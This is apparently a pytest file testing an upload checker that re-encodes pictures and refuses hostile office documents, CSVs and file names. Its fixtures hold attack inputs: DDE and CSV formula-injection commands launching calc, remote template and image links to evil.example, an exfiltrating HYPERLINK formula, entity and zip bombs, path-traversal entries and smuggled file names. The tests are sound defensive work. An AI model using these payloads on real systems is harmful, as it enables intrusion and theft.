"""What people may send on purpose, or unknowingly: refused with a sentence, or harmless once kept."""

import io
import time
from contextlib import suppress

import pytest
from PIL import Image

from network.errors import Refused
from network.files import actions, checks, rules, storage
from tests.files import documents, images, pdfs
from tests.files.documents import docx, entry, field, odf, relations, xlsx
from tests.files.images import EXTENSIONS, SCRIPT, animated, exif, jpeg_of, picture, webp_of

FORMS = ("JPEG", "PNG", "WEBP")
# What must not be left in a kept picture.
TOLD = (
    b"script",
    b"Camille",
    b"Exif",
    b"ICC_PROFILE",
    b"iCCP",
    b"ICCP",
    b"XMP",
    b"Comment",
    b"PK\x03\x04",
    b"%PDF",
)
GIF = b"GIF89a/*\x01\x00\x01\x00\x80\x00\x00*/=1;alert(1)//\x00;"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
HTML = b"<!doctype html><script>alert(1)</script>"
PROGRAM = b"MZ\x90\x00" + bytes(200)


def anew(data, form):
    kept, width, height = checks.made_anew(data, f"image.{EXTENSIONS[form]}")
    read = Image.open(io.BytesIO(kept))
    assert (read.format, read.size) == (form, (width, height))
    return kept, read


def is_red(read, at):
    red, _green, blue = read.convert("RGB").getpixel(at)
    return red > 200 and blue < 60


# ——— Pictures ———


@pytest.mark.parametrize("form", FORMS)
def test_a_picture_is_made_anew_with_nothing_but_its_pixels(form):
    sent = images.told_everything(form)
    assert all(mark in sent for mark in (b"Camille", b"script"))
    kept, read = anew(sent, form)
    assert [mark for mark in TOLD if mark in kept] == []
    assert not read.getexif()
    assert "icc_profile" not in read.info
    assert is_red(read, (5, 20))
    assert not is_red(read, (55, 20))


@pytest.mark.parametrize(("turned", "size"), [(1, (60, 40)), (3, (60, 40)), (6, (40, 60)), (8, (40, 60))])
def test_a_picture_stands_the_way_it_is_looked_at(turned, size):
    _kept, read = anew(picture(exif=exif(turned)), "JPEG")
    assert read.size == size


@pytest.mark.parametrize(
    ("form", "mode"),
    [
        ("JPEG", "L"),
        ("JPEG", "CMYK"),
        ("PNG", "P"),
        ("PNG", "1"),
        ("PNG", "LA"),
        ("PNG", "RGBA"),
        ("WEBP", "RGBA"),
    ],
)
def test_every_kind_of_colours_is_taken(form, mode):
    _kept, read = anew(picture(form, mode=mode), form)
    assert read.size == (60, 40)
    assert form == "WEBP" or ("A" in read.mode) == ("A" in mode)


def test_a_picture_of_sixteen_bits_of_grey_keeps_its_shades():
    levels = (0, 9999, 33333, 65535)
    drawn = Image.frombytes("I;16", (4, 1), b"".join(level.to_bytes(2, "little") for level in levels))
    kept = io.BytesIO()
    drawn.save(kept, "PNG")
    _kept, read = anew(kept.getvalue(), "PNG")
    assert [read.getpixel((column, 0)) for column in range(4)] == [0, 39, 130, 255]


def test_a_large_picture_is_brought_to_a_useful_size():
    _kept, read = anew(picture(size=(5000, 4000)), "JPEG")
    assert read.size == (rules.LONGEST_SIDE, 2048)


@pytest.mark.parametrize("form", ["PNG", "WEBP"])
def test_of_a_picture_that_moves_the_first_image_is_kept(form):
    kept, read = anew(animated(form), form)
    assert getattr(read, "n_frames", 1) == 1
    assert is_red(read, (30, 20))
    assert b"ANIM" not in kept
    assert b"acTL" not in kept


@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize("behind", [SCRIPT, HTML, documents.docx(), pdfs.pdf(), PROGRAM])
def test_what_hides_behind_a_picture_is_not_kept(form, behind):
    kept, _read = anew(picture(form) + behind, form)
    assert behind[:40] not in kept


HOSTILE_PICTURES = {
    "a bomb in PNG": ("PNG", images.png_bomb(), "pixels"),
    "a heading of a huge PNG": ("PNG", images.png_of(2**31 - 1, 2**31 - 1), "pixels"),
    "a heading of a huge JPEG": ("JPEG", jpeg_of(65_535, 65_535), "pixels"),
    "a heading of a huge WebP": ("WEBP", webp_of(16_384, 16_384), "damaged"),
    "a WebP just too large": ("WEBP", picture("WEBP", (4_500, 4_500), quality=1, method=0), "pixels"),
    "a bomb in a text of PNG": ("PNG", images.png_with_a_packed_bomb(b"zTXt"), "damaged"),
    "a bomb in a long text of PNG": ("PNG", images.png_with_a_packed_bomb(b"iTXt"), "damaged"),
    "half a JPEG": ("JPEG", picture(size=(900, 900))[:3000], "damaged"),
    "half a PNG": ("PNG", images.png_of(900, 900, images.chunk(b"IDAT", b"x")), "damaged"),
    "half a WebP": ("WEBP", picture("WEBP", size=(900, 900))[:200], "damaged"),
    "noise behind the beginning of a JPEG": ("JPEG", b"\xff\xd8\xff" + bytes(range(256)) * 40, "format"),
    "a PNG within a PNG’s beginning": ("PNG", b"\x89PNG\r\n\x1a\n" + SVG, "format"),
}


@pytest.mark.parametrize(("form", "data", "found"), HOSTILE_PICTURES.values(), ids=HOSTILE_PICTURES)
def test_a_hostile_picture_is_refused_soon_with_its_reason(form, data, found):
    started = time.monotonic()
    with pytest.raises(Refused) as refusal:
        checks.made_anew(data, f"image.{EXTENSIONS[form]}")
    assert refusal.value.sentence == rules.finding_in_image(found)
    assert time.monotonic() - started < checks.IMAGE_LIMITS.seconds


@pytest.mark.parametrize("data", [images.of_scans(400), images.png_with_a_packed_bomb(b"iCCP")])
@pytest.mark.parametrize("form", ["JPEG", "PNG"])
def test_a_picture_made_to_be_slow_is_answered_soon(form, data):
    started = time.monotonic()
    with suppress(Refused):
        checks.made_anew(data, f"image.{EXTENSIONS[form]}")
    assert time.monotonic() - started < checks.IMAGE_LIMITS.seconds + 2


@pytest.mark.parametrize("data", [GIF, SVG, HTML, PROGRAM, docx(), pdfs.pdf(), b"BM" + bytes(99)])
@pytest.mark.parametrize("extension", ["jpg", "png", "webp"])
def test_what_is_only_called_a_picture_is_refused(data, extension):
    with pytest.raises(Refused, match="JPEG, PNG ou WebP"):
        checks.made_anew(data, f"image.{extension}")


@pytest.mark.parametrize(
    ("form", "name"),
    [
        ("PNG", "a.jpg"),
        ("JPEG", "a.png"),
        ("WEBP", "a.jpeg"),
        ("JPEG", "a.svg"),
        ("JPEG", "a"),
        ("JPEG", "a.jpg.html"),
    ],
)
def test_name_and_content_of_a_picture_agree(form, name):
    with pytest.raises(Refused, match="sous son vrai nom"):
        checks.made_anew(picture(form), name)


def test_a_picture_beyond_eight_megabytes_is_refused_unread():
    with pytest.raises(Refused, match="dépasse 8 Mo"):
        checks.made_anew(picture() + bytes(rules.LARGEST_IMAGE), "a.jpg")


# ——— Office documents ———

WEB_LINK = relations(("hyperlink", "https://exemple.fr", True))
CHART = "application/vnd.oasis.opendocument.chart"
HONEST = {
    "a Word document": ("docx", docx()),
    "a link to a web page": ("docx", docx(word___rels__document_DOT_xml_DOT_rels=WEB_LINK)),
    "a table of contents": (
        "docx",
        docx(field('TOC \\o "1-3"') + field(" HYPERLINK ", '"https://exemple.fr"')),
    ),
    "a picture in Word": ("docx", docx(word__media__image1_DOT_png=picture("PNG"))),
    "a workbook": ("xlsx", xlsx()),
    "a sum": ("xlsx", xlsx("<f>SUM(A1:A9)</f><v>2</v>")),
    "settings of a printer": ("xlsx", xlsx(xl__printerSettings__printerSettings1_DOT_bin=b"\0\1")),
    "an OpenDocument text": ("odt", odf('<text:a xlink:href="https://exemple.fr">Ici</text:a>')),
    "an OpenDocument sheet": ("ods", odf("<table:table/>", "spreadsheet")),
    "a chart in a sheet": (
        "ods",
        odf(
            '<draw:object xlink:href="./Object 1"/>',
            "spreadsheet",
            entry("Object 1/", CHART),
            **{"Object 1__content_DOT_xml": "<x/>"},
        ),
    ),
    "a CSV": ("csv", "nom;énergie\nFigeac;-12,5\n".encode()),
    "a CSV of an older Excel": ("csv", "nom;énergie\nFigeac;+33 5 65\n".encode("cp1252")),
}


@pytest.mark.parametrize(("kind", "data"), HONEST.values(), ids=HONEST)
def test_an_honest_document_passes(kind, data):
    checks.check_document(data, f"Modèle de cahier des charges.{kind}")


DOTM = relations(("attachedTemplate", "https://evil.example/x.dotm", True))
HOSTILE_DOCUMENTS = {
    "a macro": ("docx", docx(word__vbaProject_DOT_bin=b"\xd0\xcf\x11\xe0"), "embedded"),
    "a macro of another beginning": ("docx", docx(word__vbaProject_DOT_bin=b"x"), "script"),
    "a type of macro": (
        "docx",
        docx(main="application/vnd.ms-word.document.macroEnabled.main+xml"),
        "script",
    ),
    "a type of macro beside": (
        "docx",
        docx(types='<Override PartName="/word/x.xml" ContentType="application/vnd.ms-office.vbaProject"/>'),
        "script",
    ),
    "an old sheet of macros": ("xlsx", xlsx(xl__macrosheets__sheet1_DOT_xml="<x/>"), "script"),
    "a control": ("docx", docx(word__activeX__activeX1_DOT_xml="<x/>"), "script"),
    "a template elsewhere": ("docx", docx(word___rels__settings_DOT_xml_DOT_rels=DOTM), "outside"),
    "a picture elsewhere": (
        "docx",
        docx(word___rels__document_DOT_xml_DOT_rels=relations(("image", "https://evil.example/p.png", True))),
        "outside",
    ),
    "a picture on a neighbour’s disk": (
        "docx",
        docx(word___rels__document_DOT_xml_DOT_rels=relations(("image", "\\\\host\\share\\p.png", False))),
        "outside",
    ),
    "a link to a program": (
        "docx",
        docx(word___rels__document_DOT_xml_DOT_rels=relations(("hyperlink", "file:///c:/calc.exe", True))),
        "link",
    ),
    "a page of HTML inside": (
        "docx",
        docx(word___rels__document_DOT_xml_DOT_rels=relations(("aFChunk", "x.html", False))),
        "outside",
    ),
    "an object": ("docx", docx(word__embeddings__oleObject1_DOT_bin=b"x"), "embedded"),
    "another workbook inside": ("docx", docx(word__embeddings__a_DOT_xlsx=xlsx()), "embedded"),
    "a program called a picture": ("docx", docx(word__media__image1_DOT_png=PROGRAM), "embedded"),
    "a script inside": ("docx", docx(word__x_DOT_js="alert(1)"), "embedded"),
    "an active drawing inside": ("docx", docx(word__media__i_DOT_svg=b"<svg><script/></svg>"), "script"),
    "a drawing that acts": (
        "docx",
        docx(word__media__i_DOT_svg=SVG.replace(b"alert(1)", b"go(1)")),
        "script",
    ),
    "a drawing that acts in few signs": (
        "docx",
        docx(word__media__i_DOT_svg=SVG.replace(b"alert(1)", b"location=name")),
        "script",
    ),
    "a drawing that holds a page": (
        "docx",
        docx(word__media__i_DOT_svg=b"<svg><foreignObject><iframe src='/x'/></foreignObject></svg>"),
        "script",
    ),
    "a drawing that fetches": (
        "odt",
        odf(Pictures__i_DOT_svg='<svg><image href="https://evil.example/p.png"/></svg>'),
        "outside",
    ),
    "a program of the store": (
        "docx",
        docx(
            _rels___DOT_rels=relations(("webextensiontaskpanes", "word/webextensions/taskpanes.xml", False))
        ),
        "outside",
    ),
    "a field that runs": ("docx", docx(field("DDEAUTO c:\\\\calc.exe")), "outside"),
    "a field cut in pieces": ("docx", docx(field(" DD", "EAUTO ", "calc")), "outside"),
    "a simple field": ("docx", docx('<w:fldSimple w:instr=" INCLUDETEXT x "/>'), "outside"),
    "a link by a field": ("docx", docx(field('HYPERLINK "file:///\\\\\\\\evil\\\\x.exe"')), "link"),
    "a link to a tool of the system": ("docx", docx(field('HYPERLINK "ms-msdt:/id x"')), "link"),
    "a field that spells another": ("docx", docx(field(" ", "QUOTE 68 68 69")), "outside"),
    "an entity from a file": ("docx", documents.with_entities(documents.ENTITIES), "outside"),
    "entities that multiply": ("docx", documents.with_entities(documents.LAUGHS, "&l10;"), "outside"),
    "a workbook elsewhere": ("xlsx", xlsx(xl__externalLinks__externalLink1_DOT_xml="<x/>"), "outside"),
    "a connection": ("xlsx", xlsx(xl__connections_DOT_xml="<x/>"), "outside"),
    "a formula that fetches": ("xlsx", xlsx("<f>_xlfn.WEBSERVICE(A1)</f>"), "outside"),
    "a formula that runs": ("xlsx", xlsx("<f>cmd|' /C calc'!A0</f>"), "outside"),
    "a formula that links": (
        "xlsx",
        xlsx("<f>HYPERLINK(&quot;file:///\\\\evil\\x&quot;)</f>"),
        "link",
    ),
    "a formula that shows": ("xlsx", xlsx("<f>_xlfn.IMAGE(&quot;http://evil/x.png&quot;)</f>"), "outside"),
    "a workbook on a neighbour’s disk": ("xlsx", xlsx("<f>'\\\\evil\\[b.xlsx]S'!A1</f>"), "outside"),
    "a Word document called Excel": ("xlsx", docx(), "format"),
    "an archive called Word": ("docx", documents.zipped({"a.txt": "x"}), "embedded"),
    "an OpenDocument called Word": ("docx", odf(), "format"),
    "a Word document called OpenDocument": ("odt", docx(), "format"),
    "a sheet called a text": ("odt", odf(kind="spreadsheet"), "format"),
    "a packed mimetype": ("odt", odf(mimetype="application/vnd.oasis.opendocument.text "), "format"),
    "macros of OpenDocument": ("odt", odf(Basic__Standard__Module1_DOT_xml="<x/>"), "script"),
    "scripts of OpenDocument": ("odt", odf(Scripts__python__x_DOT_py="x"), "script"),
    "a listener of events": (
        "odt",
        odf('<script:event-listener xlink:href="vnd.sun.star.script:x"/>'),
        "script",
    ),
    "a link to a macro": ("odt", odf('<text:a xlink:href="vnd.sun.star.script:x">Ici</text:a>'), "link"),
    "a link by a tab": ("odt", odf('<text:a xlink:href="java&#9;script:x">Ici</text:a>'), "link"),
    "a picture elsewhere, OpenDocument": (
        "odt",
        odf('<draw:image xlink:href="https://evil.example"/>'),
        "outside",
    ),
    "a picture beside the file": ("odt", odf('<draw:image xlink:href="../../secret.png"/>'), "outside"),
    "a section elsewhere": ("odt", odf('<text:section-source xlink:href="x.odt"/>'), "outside"),
    "an object of OpenDocument": (
        "odt",
        odf(listed=entry("Object 1", "application/vnd.sun.star.oleobject")),
        "embedded",
    ),
    "an encrypted OpenDocument": (
        "odt",
        odf(listed=entry("content.xml", "text/xml", "<manifest:encryption-data/>")),
        "encrypted",
    ),
    "an encrypted Word document": ("docx", documents.encrypted(), "encrypted"),
    "a bomb": ("docx", documents.bomb(), "heavy"),
    "a bomb that lies": ("docx", documents.lying_bomb(), "damaged"),
    "very many entries": ("docx", documents.of_many_entries(4000), "heavy"),
    "two entries in one": ("docx", documents.overlapping(), "damaged"),
    "an entry above the folder": ("docx", documents.with_entry("../../evil.xml"), "damaged"),
    "an entry at the root": ("docx", documents.with_entry("/etc/cron.d/x.xml"), "damaged"),
    "an entry of Windows": ("docx", documents.with_entry("..\\evil.xml"), "damaged"),
    "an entry twice": ("docx", documents.with_entry("WORD/document.xml"), "damaged"),
    "a page before": ("docx", HTML + docx(), None),
    "a page behind": ("docx", docx() + HTML, "format"),
    "half of itself": ("docx", docx()[:400], "damaged"),
    "XML that is none": ("docx", docx(word__x_DOT_xml="<a><b></a>"), "damaged"),
    "a page called CSV": ("csv", HTML, "format"),
    "a program called CSV": ("csv", PROGRAM, "encoding"),
    "a formula in a CSV": ("csv", b"a;b\n1;=HYPERLINK(A1)\n", "formula"),
    "a command in a CSV": ("csv", b"a;b\n1;-2+3+cmd|' /C calc'!A0\n", "formula"),
    "a formula in quotes": ("csv", b'a,b\n1,"@SUM(1)"\n', "formula"),
    "a formula behind a told separator": (
        "csv",
        b"sep=^\na^b\nx^=cmd|' /C calc'!A0\n",
        "formula",
    ),
    "a formula behind a bar": ("csv", b'a|b\nx|=HYPERLINK("http://evil.example/?"&A1)\n', "formula"),
    "a formula for a French Excel": (
        "csv",
        b"a,b,c,d,e,f,g\n" * 5 + b"x,y;=cmd|' /C calc'!A0;z\n",
        "formula",
    ),
    "a quote without end": ("csv", b'a,"b\n', "damaged"),
}


@pytest.mark.parametrize(("kind", "data", "found"), HOSTILE_DOCUMENTS.values(), ids=HOSTILE_DOCUMENTS)
def test_a_hostile_document_is_refused_soon_with_its_reason(kind, data, found):
    started = time.monotonic()
    with pytest.raises(Refused) as refusal:
        checks.check_document(data, f"guide.{kind}")
    if found:
        assert refusal.value.sentence == rules.finding_in_document(found)
    assert time.monotonic() - started < checks.DOCUMENT_LIMITS.seconds


@pytest.mark.parametrize(
    "name",
    ["x.svg", "x.html", "x.zip", "x.docm", "x.xlsm", "x.doc", "x.xls", "x.pptx", "x.txt", "x", "x.pdf.exe"],
)
def test_only_named_formats_are_taken(name):
    with pytest.raises(Refused, match="Choisissez un fichier PDF, ODT"):
        checks.check_document(docx(), name)


@pytest.mark.parametrize("name", ["guide.pdf", "guide.docx", "guide.odt"])
@pytest.mark.parametrize("data", [HTML, SVG, GIF, PROGRAM, picture()])
def test_what_is_only_called_a_document_is_refused(app, name, data):
    with pytest.raises(Refused, match="sous son vrai nom"):
        actions.receive_document(data, name)


# ——— PDFs for readers ———


def test_a_pdf_for_readers_is_written_anew(app):
    sent = pdfs.pdf() + b"\n" + HTML
    received = actions.receive_document(sent, "guide.pdf")
    kept = storage.path(received.public_id).read_bytes()
    assert kept.startswith(b"%PDF-")
    assert b"script" not in kept


def test_a_pdf_for_readers_is_judged_as_a_mandate_is(app):
    with pytest.raises(Refused, match="JavaScript"):
        actions.receive_document(pdfs.with_escaped_names(), "guide.pdf")


# ——— Names ———


@pytest.mark.parametrize(
    ("sent", "kept"),
    [
        ("../../../etc/passwd.jpg", "passwd.jpg"),
        ("C:\\fakepath\\école.jpg", "école.jpg"),
        ("a\0.html.jpg", "a -html.jpg"),
        ("photo\u202egpj.exe.jpg", "photo gpj-exe.jpg"),
        ("x\r\nSet-Cookie: a=1.jpg", "x Set-Cookie a=1.jpg"),
        ("\u2066a\u2069\ufeff.jpg", "a.jpg"),
        ("facture.exe .pdf", "facture-exe.pdf"),
        ("photo. html .jpg", "photo- html.jpg"),
        ("facture.pdf.html.php.jpg", "facture.pdf-html-php.jpg"),
        ("rapport v1.2.jpg", "rapport v1.2.jpg"),
        ("é" * 300 + ".jpg", "é" * 96 + ".jpg"),
        (".jpg", "jpg"),
    ],
)
def test_a_name_is_kept_harmless(sent, kept):
    assert rules.clean_name(sent) == kept
